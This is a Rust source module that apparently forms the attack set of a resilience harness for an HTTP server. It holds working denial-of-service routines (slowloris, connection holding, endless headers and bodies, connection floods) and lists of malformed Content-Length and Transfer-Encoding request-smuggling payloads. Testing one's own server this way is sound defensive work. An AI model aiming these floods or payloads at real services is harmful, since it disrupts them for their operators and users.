//! The attacks. Each runs in `threads` threads until `end`, and counts what it did.

use crate::flood::{self, flood};
use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};

pub struct Attack {
    pub name: &'static str,
    /// What is counted.
    pub unit: &'static str,
    pub threads: u32,
    /// Connections are offered at a rate, and it is told what became of them.
    pub is_flood: bool,
    /// What the victim may have open.
    pub descriptors: u64,
    pub run: fn(SocketAddr, Instant, &Done),
}

impl Attack {
    pub fn tell(&self, done: Done, lasted: Duration) -> String {
        let (count, made, answered) = (done.count.into_inner(), done.made.into_inner(), done.answered.into_inner());
        let told = format!("{count} {}", self.unit);
        if self.is_flood {
            let a_second = count as f64 / lasted.as_secs_f64();
            format!("{told} offered, {a_second:.0} a second; {made} made, {answered} answered")
        } else {
            told
        }
    }
}

/// What an attack has done so far.
#[derive(Default)]
pub struct Done {
    /// In the attack's unit; a flood's are the connections that it offered.
    pub count: AtomicU64,
    /// The connections of a flood that the victim's kernel made.
    pub made: AtomicU64,
    /// The connections of a flood whose answer had come when they were reset.
    pub answered: AtomicU64,
}

impl Done {
    pub fn add(&self, count: u64) {
        self.count.fetch_add(count, Ordering::Relaxed);
    }
}

const fn attack(name: &'static str, unit: &'static str, run: fn(SocketAddr, Instant, &Done)) -> Attack {
    Attack { name, unit, threads: 1, is_flood: false, descriptors: 1024, run }
}

pub const ATTACKS: &[Attack] = &[
    attack("none", "", |_, end, _| sleep_until(end)),
    attack("2,000 idle connections", "connections", |to, end, done| hold(to, end, done, 2_000, b"")),
    attack("slowloris, 500 connections", "bytes", slowloris),
    Attack {
        descriptors: 64,
        ..attack("EMFILE (ulimit -n 64), 500 idle connections", "connections", |to, end, done| {
            hold(to, end, done, 500, b"")
        })
    },
    attack("10 MB in one header", "MB", |to, end, done| {
        pour(to, end, done, b"GET /livez HTTP/1.1\r\nHost: a\r\nX: ", &[b'x'; 16 * 1024], 10 << 20)
    }),
    attack("endless headers", "MB", |to, end, done| {
        pour(to, end, done, b"GET /livez HTTP/1.1\r\nHost: a\r\n", &b"A: b\r\n".repeat(2048), usize::MAX)
    }),
    attack("endless request line", "MB", |to, end, done| pour(to, end, done, b"GET /", &[b'a'; 16 * 1024], usize::MAX)),
    attack("absurd, double, malformed Content-Length", "requests", |to, end, done| {
        each(to, end, done, CONTENT_LENGTHS)
    }),
    attack("Transfer-Encoding tricks", "requests", |to, end, done| each(to, end, done, TRANSFER_ENCODINGS)),
    attack("endless chunked body", "MB", |to, end, done| {
        let head = b"POST /livez HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n";
        pour(to, end, done, head, &b"5\r\nhello\r\n".repeat(1600), usize::MAX)
    }),
    attack("a declared body never sent, 500 connections", "connections", |to, end, done| {
        hold(to, end, done, 500, b"POST /livez HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n")
    }),
    attack("pipelining without reading", "MB", |to, end, done| {
        let requests = b"GET /metrics HTTP/1.1\r\nHost: a\r\n\r\n".repeat(400);
        pour(to, end, done, b"", &requests, usize::MAX)
    }),
    attack("500 clients that never read", "connections", |to, end, done| {
        hold(to, end, done, 500, &b"GET /metrics HTTP/1.1\r\nHost: a\r\n\r\n".repeat(200))
    }),
    Attack {
        threads: flood::THREADS,
        is_flood: true,
        ..attack("30,000 connections a second, reset at once", "connections", |to, end, done| {
            flood(to, end, done, b"", 0)
        })
    },
    Attack {
        threads: flood::THREADS,
        is_flood: true,
        ..attack("30,000 connections a second, each with a request", "connections", |to, end, done| {
            flood(to, end, done, b"GET /livez HTTP/1.1\r\nHost: a\r\n\r\n", 500)
        })
    },
];

const CONTENT_LENGTHS: &[&[u8]] = &[
    b"GET /livez HTTP/1.1\r\nHost: a\r\nContent-Length: 9000000000000000000\r\n\r\n",
    b"GET /livez HTTP/1.1\r\nHost: a\r\nContent-Length: 18446744073709551615\r\n\r\n",
    b"GET /livez HTTP/1.1\r\nHost: a\r\nContent-Length: 99999999999999999999999999\r\n\r\n",
    b"POST /livez HTTP/1.1\r\nHost: a\r\nContent-Length: -1\r\n\r\n",
    b"POST /livez HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nhello",
    b"POST /livez HTTP/1.1\r\nHost: a\r\nContent-Length: 5, 5\r\n\r\nhello",
    b"POST /livez HTTP/1.1\r\nHost: a\r\nContent-Length: 0x10\r\n\r\n",
    b"POST /livez HTTP/1.1\r\nHost: a\r\nContent-Length: +5\r\n\r\nhello",
    b"POST /livez HTTP/1.1\r\nHost: a\r\nContent-Length:\r\n\r\n",
    b"POST /livez HTTP/1.1\r\nHost: a\r\nContent-Length: 5\x00\r\n\r\n",
];

const TRANSFER_ENCODINGS: &[&[u8]] = &[
    b"POST /livez HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\n0\r\n\r\n",
    b"POST /livez HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
    b"POST /livez HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
    b"POST /livez HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: gzip\r\n\r\n0\r\n\r\n",
    b"POST /livez HTTP/1.0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    b"POST /livez HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\nFFFFFFFFFFFFFFFF\r\nx",
    b"POST /livez HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\nFFFFFFFFFFFFFFFFFF\r\nx",
    b"POST /livez HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n-1\r\nx",
    b"POST /livez HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n5;a=b;c=\"\x00\"\r\nhello\r\n0\r\nX: y\r\n\r\n",
    b"POST /livez HTTP/1.1\r\nHost: a\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
    b"POST /livez HTTP/1.1\r\nHost: a\r\nExpect: 100-continue\r\nTransfer-Encoding: chunked\r\n\r\n",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    b"GET /livez HTTP/1.1\r\nHost: a\r\nUpgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\n\r\n",
];

/// Keeps so many connections open that have sent so much; those that are closed are opened again.
fn hold(to: SocketAddr, end: Instant, done: &Done, most: usize, send: &[u8]) {
    let mut held: Vec<TcpStream> = Vec::new();
    while Instant::now() < end {
        held.retain(is_open);
        let missing = (most - held.len()).min(100);
        for _ in 0..missing {
            if let Some(mut stream) = connect(to) {
                let _ = stream.set_nonblocking(true);
                let _ = stream.write(send);
                held.push(stream);
                done.add(1);
            }
        }
        std::thread::sleep(Duration::from_millis(2));
    }
}

/// A byte of a head at a time.
fn slowloris(to: SocketAddr, end: Instant, done: &Done) {
    let mut held: Vec<TcpStream> = Vec::new();
    while Instant::now() < end {
        while held.len() < 500 && Instant::now() < end {
            let Some(mut stream) = connect(to) else { break };
            let _ = stream.set_nonblocking(true);
            let _ = stream.write(b"GET /livez HTTP/1.1\r\nX: ");
            held.push(stream);
        }
        held.retain_mut(|stream| stream.write(b"x").is_ok());
        done.add(held.len() as u64);
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// Writes `head`, then `more` again and again, never reading; a connection that ends is followed by another.
fn pour(to: SocketAddr, end: Instant, done: &Done, head: &[u8], more: &[u8], most: usize) {
    let mut bytes = 0_u64;
    while Instant::now() < end {
        let Some(mut stream) = connect(to) else { continue };
        let _ = stream.set_write_timeout(Some(Duration::from_millis(200)));
        let mut written = head.len();
        if stream.write_all(head).is_err() {
            continue;
        }
        while written < most && Instant::now() < end {
            match stream.write(more) {
                Ok(count) => written += count,
                // It does not take more, and does not close either: as slow as it likes.
                Err(error) if error.kind() == ErrorKind::WouldBlock => {}
                Err(_) => break,
            }
        }
        let before = bytes >> 20;
        bytes += written as u64;
        done.add((bytes >> 20) - before);
    }
}

/// Sends each request on a connection of its own and waits a little for what comes.
fn each(to: SocketAddr, end: Instant, done: &Done, requests: &[&[u8]]) {
    let mut answer = [0; 4096];
    for request in requests.iter().cycle() {
        if Instant::now() >= end {
            return;
        }
        let Some(mut stream) = connect(to) else { continue };
        let _ = stream.set_read_timeout(Some(Duration::from_millis(5)));
        let _ = stream.write_all(request);
        let _ = stream.read(&mut answer);
        done.add(1);
    }
}

fn connect(to: SocketAddr) -> Option<TcpStream> {
    TcpStream::connect_timeout(&to, Duration::from_millis(500)).ok()
}

fn is_open(stream: &TcpStream) -> bool {
    let mut byte = [0];
    matches!(stream.peek(&mut byte), Err(error) if error.kind() == ErrorKind::WouldBlock)
        || matches!(stream.peek(&mut byte), Ok(count) if count > 0)
}

fn sleep_until(end: Instant) {
    std::thread::sleep(end.saturating_duration_since(Instant::now()));
}
